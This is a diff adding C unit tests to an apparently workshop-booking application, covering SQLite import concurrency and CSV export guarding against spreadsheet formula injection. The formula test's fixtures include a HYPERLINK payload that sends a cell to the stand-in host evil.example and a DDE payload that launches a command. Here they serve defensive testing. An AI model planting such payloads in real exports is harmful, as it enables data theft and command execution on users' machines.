@@ -721,6 +721,196 @@ test_export_attendance (TestStore *f, gconstpointer data)
   }
 }
 
+static char *
+write_door_file (TestStore *f)
+{
+  char *path = g_build_filename (f->dir, "door.csv", NULL);
+
+  g_assert_true (g_file_set_contents (path,
+                                      "First name,Last name,Email\n"
+                                      "Zoé,Martin,zoe@example.org\n"
+                                      "Hugo,Moreau,hugo@example.org\n"
+                                      "Léa,Lefèvre,lea@example.org\n", -1, NULL));
+  return path;
+}
+
+static sqlite3 *
+open_door (TestStore *f)
+{
+  sqlite3 *door = NULL;
+
+  g_assert_cmpint (sqlite3_open (f->path, &door), ==, SQLITE_OK);
+  g_assert_cmpint (sqlite3_exec (door, "BEGIN IMMEDIATE", NULL, NULL, NULL), ==, SQLITE_OK);
+  return door;
+}
+
+/* Reading, checking and matching the rows take no write lock: a dry run
+ * goes through while the door holds it. */
+static void
+test_import_reads_beside_door (TestStore *f, gconstpointer data)
+{
+  g_autofree char *path = write_door_file (f);
+  g_autoptr(AtelierCustomerImport) import = atelier_customer_import_new_for_path (path, NULL);
+  g_autoptr(AtelierImportReport) report = NULL;
+  g_autoptr(GError) error = NULL;
+  sqlite3 *door = open_door (f);
+
+  g_assert_true (atelier_customer_import_run (import, f->store, TRUE, &report, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (report->n_created, ==, 3);
+  g_assert_cmpint (sqlite3_exec (door, "ROLLBACK", NULL, NULL, NULL), ==, SQLITE_OK);
+  sqlite3_close (door);
+}
+
+static gpointer
+import_in_thread (gpointer data)
+{
+  const char *const *paths = data;
+  g_autoptr(AtelierStore) store = atelier_store_open (paths[0], NULL);
+  g_autoptr(AtelierCustomerImport) import = atelier_customer_import_new_for_path (paths[1], NULL);
+  g_autoptr(AtelierImportReport) report = NULL;
+  g_autoptr(GError) error = NULL;
+
+  g_assert_true (atelier_customer_import_run (import, store, FALSE, &report, &error));
+  g_assert_no_error (error);
+  return NULL;
+}
+
+/* A customer the door adds while an import is staged is matched when
+ * the import applies: the run starts again rather than create a second
+ * customer with the same address. */
+static void
+test_import_door_commits_meanwhile (TestStore *f, gconstpointer data)
+{
+  g_autofree char *path = write_door_file (f);
+  const char *paths[] = { f->path, path };
+  sqlite3 *door = open_door (f);
+  GThread *thread = g_thread_new ("import", import_in_thread, paths);
+
+  g_assert_cmpint (sqlite3_exec (door,
+                                 "INSERT INTO customers (given_name, family_name, email, created_at)"
+                                 " VALUES ('Zoé', 'M.', 'ZOE@example.org', 1700000000);"
+                                 "COMMIT", NULL, NULL, NULL), ==, SQLITE_OK);
+  sqlite3_close (door);
+  g_thread_join (thread);
+
+  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM customers"), ==, "3");
+  g_assert_cmpstr (test_query_text (f->store, "SELECT family_name FROM customers"
+                                              " WHERE email = 'ZOE@example.org'"), ==, "Martin");
+}
+
+static void
+assert_no_formula_cell (GString *csv)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(AtelierCsvTable) table = atelier_csv_table_parse (csv->str, csv->len, ',', &error);
+
+  g_assert_no_error (error);
+  for (guint row = 0; row < atelier_csv_table_get_n_rows (table); row++)
+    for (const char * const *cell = atelier_csv_table_get_row (table, row); *cell != NULL; cell++)
+      if (**cell != '\0' && strchr ("=+-@\t\r", **cell) != NULL)
+        g_error ("Row %u has a cell a spreadsheet would run: %s", row, *cell);
+}
+
+/* Cells that a spreadsheet would run as formulas are written after a
+ * quote, in both exports, and an import of the export reads them back
+ * as they were. */
+static void
+test_export_formulas (TestStore *f, gconstpointer data)
+{
+  static const char *const names[] = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "+cmd|' /C calc'!A0",
+    "@SUM(1+1)", "-2+3",
+  };
+  g_autoptr(AtelierWorkshop) w = atelier_workshop_new ("=1+2");
+  g_autoptr(GDateTime) starts = g_date_time_new_utc (2025, 3, 14, 17, 30, 0);
+  g_autoptr(GDateTime) ends = g_date_time_add_hours (starts, 2);
+  g_autoptr(AtelierSession) s = NULL;
+  g_autoptr(GString) customers = NULL;
+  g_autoptr(GString) attendance = NULL;
+  g_autofree char *path = g_build_filename (f->dir, "customers.csv", NULL);
+  g_autofree char *other_path = g_build_filename (f->dir, "other.db", NULL);
+  g_autoptr(AtelierStore) other = NULL;
+  g_autoptr(AtelierCustomerImport) import = NULL;
+  g_autoptr(AtelierImportReport) report = NULL;
+  g_autoptr(GString) again = NULL;
+  g_autoptr(GError) error = NULL;
+
+  g_object_set (w, "capacity", 8, NULL);
+  g_assert_true (atelier_store_add_workshop (f->store, w, NULL));
+  s = atelier_session_new (atelier_workshop_get_id (w), starts, ends, "Europe/Paris");
+  g_object_set (s, "capacity", 8, NULL);
+  g_assert_true (atelier_store_add_session (f->store, s, NULL));
+  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+    {
+      g_autoptr(AtelierCustomer) c = atelier_customer_new (names[i], "");
+      g_autoptr(AtelierRegistration) r = NULL;
+      g_autofree char *email = g_strdup_printf ("person%u@example.org", i);
+
+      g_object_set (c, "email", email, "phone", "+33 6 12 34 56 78",
+                    "note", i == 0 ? "-1" : "=2*3", NULL);
+      g_assert_true (atelier_store_add_customer (f->store, c, NULL));
+      r = atelier_registration_new (atelier_session_get_id (s), atelier_customer_get_id (c), 1);
+      g_assert_true (atelier_store_add_registration (f->store, r, NULL));
+    }
+
+  customers = atelier_customer_book_export_csv (f->store, &error);
+  g_assert_no_error (error);
+  assert_no_formula_cell (customers);
+  g_assert_nonnull (strstr (customers->str, "\"'@SUM(1+1)\""));
+  g_assert_nonnull (strstr (customers->str, "\"'+33 6 12 34 56 78\""));
+  attendance = atelier_customer_book_export_attendance (f->store, 0, NULL, NULL, &error);
+  g_assert_no_error (error);
+  assert_no_formula_cell (attendance);
+  g_assert_nonnull (strstr (attendance->str, "\"'=1+2\""));
+
+  g_assert_true (atelier_csv_write_file (path, customers, FALSE, &error));
+  other = atelier_store_open (other_path, &error);
+  g_assert_no_error (error);
+  import = atelier_customer_import_new_for_path (path, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (atelier_customer_import_get_value (import, 3, 1), ==, "-2+3");
+  g_assert_true (atelier_customer_import_run (import, other, FALSE, &report, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (report->n_created, ==, G_N_ELEMENTS (names));
+  again = atelier_customer_book_export_csv (other, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (again->str, ==, customers->str);
+}
+
+/* A tab or a carriage return in front of a formula is guarded too. */
+static void
+test_csv_guards_blanks (void)
+{
+  const char *fields[] = { "\t=1+2", "\r=1+2", "ok", "'=quoted", "'@", "a-b", "'kept" };
+  g_autoptr(GString) out = g_string_new (NULL);
+  g_autoptr(AtelierCsvTable) table = NULL;
+
+  atelier_csv_append_row (out, fields, G_N_ELEMENTS (fields), ',');
+  g_assert_cmpstr (out->str, ==, "\"'\t=1+2\",\"'\r=1+2\",ok,\"''=quoted\",\"''@\",a-b,'kept\r\n");
+  g_assert_cmpstr (atelier_csv_unguard_field ("'\t=1+2"), ==, "\t=1+2");
+  g_assert_cmpstr (atelier_csv_unguard_field ("'kept"), ==, "'kept");
+  g_assert_cmpstr (atelier_csv_unguard_field ("O'Neil"), ==, "O'Neil");
+
+  /* Whatever a cell holds, it reads back as itself (found by fuzz-csv:
+   * a cell "'@" lost its quote, a first cell starting with U+FEFF was
+   * read as the file's byte-order mark). */
+  {
+    const char *bom[] = { "\xef\xbb\xbfname" };
+    g_autoptr(GString) alone = g_string_new (NULL);
+    g_autoptr(AtelierCsvTable) again = NULL;
+
+    atelier_csv_append_row (alone, bom, 1, ',');
+    again = atelier_csv_table_parse (alone->str, alone->len, ',', NULL);
+    g_assert_nonnull (again);
+    g_assert_cmpstr (atelier_csv_table_get_row (again, 0)[0], ==, bom[0]);
+  }
+  table = atelier_csv_table_parse (out->str, out->len, ',', NULL);
+  g_assert_nonnull (table);
+  for (guint i = 0; i < G_N_ELEMENTS (fields); i++)
+    g_assert_cmpstr (atelier_csv_unguard_field (atelier_csv_table_get_row (table, 0)[i]), ==, fields[i]);
+}
+
 int
 main (int argc, char **argv)
 {
@@ -757,6 +947,13 @@ main (int argc, char **argv)
               test_export_round_trip, test_store_teardown);
   g_test_add ("/atelier/import/export-attendance", TestStore, NULL, test_store_setup,
               test_export_attendance, test_store_teardown);
+  g_test_add ("/atelier/import/export-formulas", TestStore, NULL, test_store_setup,
+              test_export_formulas, test_store_teardown);
+  g_test_add_func ("/atelier/import/csv-guards-blanks", test_csv_guards_blanks);
+  g_test_add ("/atelier/import/reads-beside-door", TestStore, NULL, test_store_setup,
+              test_import_reads_beside_door, test_store_teardown);
+  g_test_add ("/atelier/import/door-commits-meanwhile", TestStore, NULL, test_store_setup,
+              test_import_door_commits_meanwhile, test_store_teardown);
 
   return g_test_run ();
 }
